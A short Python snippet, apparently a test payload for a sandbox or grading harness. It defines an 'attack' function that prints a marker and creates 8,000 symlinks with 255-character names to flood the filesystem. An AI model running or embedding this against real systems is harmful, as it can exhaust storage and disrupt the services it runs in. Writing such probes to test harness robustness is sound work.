import os


def attack(layer, x):
    print("TRIED many files", flush=True)
    for number in range(8_000):
        os.symlink("x", f"{number:0255}")
